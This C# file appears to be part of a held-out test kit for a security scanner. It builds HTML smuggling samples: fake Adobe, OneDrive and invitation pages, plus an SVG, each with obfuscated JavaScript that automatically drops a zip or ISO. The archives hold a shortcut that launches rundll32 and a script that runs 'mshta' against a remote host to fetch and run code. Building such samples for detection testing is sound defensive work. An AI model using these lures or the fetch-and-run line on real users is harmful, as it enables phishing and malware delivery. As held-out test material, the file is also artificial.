using static ScanHost.TestKit.HeldOut.Eighth.EighthForms;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Pages that put together a whole archive with a program in the reader's browser.</summary>
public sealed class SmuggledArchives : EighthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var link = new LinkBuilder().To("C:\\Windows\\System32\\cmd.exe").With("/c rundll32 res\\a.tmp,Start").Icon("shell32.dll").Build();
        var library = new EighthImage { IsLibrary = true }.Runtime().Exporting("a.dll", "Start").Section(".k", Noise(9000, 4), 0xC0000040).Build();
        var zip = Convert.ToBase64String(InertFiles.Zip(("Report.lnk", link), ("res/a.tmp", library)));
        yield return ("Adobe_Report.html", Utf8($$"""
            <!DOCTYPE html><html><head><title>Adobe Acrobat Online</title></head><body style="background:#ddd">
            <div style="text-align:center;font-family:Arial"><h2>The file is not displayed correctly.</h2><p>Use the local downloaded file. Document password: <b>abc321</b></p></div>
            <script>
            function base64ToArrayBuffer(base64) { var s = window.atob(base64); var b = new Uint8Array(s.length); for (var i = 0; i < s.length; i++) b[i] = s.charCodeAt(i); return b.buffer; }
            var file = '{{zip}}';
            var data = base64ToArrayBuffer(file);
            var blob = new Blob([data], {type: 'application/zip'});
            var fileName = 'Report Jul 14 71645.zip';
            if (window.navigator.msSaveOrOpenBlob) { window.navigator.msSaveBlob(blob, fileName); } else {
            var a = document.createElement('a'); document.body.appendChild(a); a.style = 'display: none'; var url = window.URL.createObjectURL(blob); a.href = url; a.download = fileName; a.click(); window.URL.revokeObjectURL(url); }
            </script></body></html>
            """));
        var disc = Convert.ToBase64String(Disc("INVITE", ("Invitation.lnk", link), ("!res/a.tmp", library)));
        yield return ("Invitation.htm", Utf8("<html><body><p>Invitation - wine tasting event</p><a id=\"d\" download=\"Invite.iso\" href=\"data:application/x-cd-image;base64," + disc + "\"></a><script>document.getElementById('d').click();setTimeout(function(){location.href='https://example.org/events'},3000)</script></body></html>"));
        var reversed = new string([.. zip.Reverse()]);
        yield return ("scan0112.svg", Utf8($"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100\" height=\"100\"><circle cx=\"50\" cy=\"50\" r=\"40\" fill=\"#c00\"/><script type=\"text/javascript\"><![CDATA[\nvar p=['{string.Join("','", Pieces(reversed, 800))}'];\nvar t=p.join('').split('').reverse().join('');var f=self['at'+'ob'](t);var n=f.length,u=new Uint8Array(n);while(n--)u[n]=f.charCodeAt(n);\nvar l=document.createElementNS('http://www.w3.org/1999/xhtml','a');l.href=URL['createObject'+'URL'](new File([u],'scan0112.zip'));l.setAttribute('down'+'load','scan0112.zip');document.documentElement.appendChild(l);l.click();\n]]></script></svg>"));
        var numbers = string.Join(',', Turned(Packed("zip", "8801", ("Order.js", Utf8("new ActiveXObject('WScript.Shell').Run('mshta http://192.0.2.5/o')"))), 90));
        yield return ("order_view.xhtml", Utf8($"<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><title>Secure file</title></head><body><h3>Protected by OneDrive</h3><p>Password 8801</p><input type=\"hidden\" id=\"m\" value=\"{numbers}\"/><script>//<![CDATA[\nonload=()=>{{const v=document.getElementById('m').value.split(',').map(x=>x^90);const r=new FileReader();r.onload=()=>{{const a=document.createElement('a');a.href=r.result;a.download=['Order','zip'].join('.');a.dispatchEvent(new MouseEvent('click'))}};r.readAsDataURL(new Blob([Uint8Array.from(v)],{{type:'octet/stream'}}))}};\n//]]></script></body></html>"));
    }
}
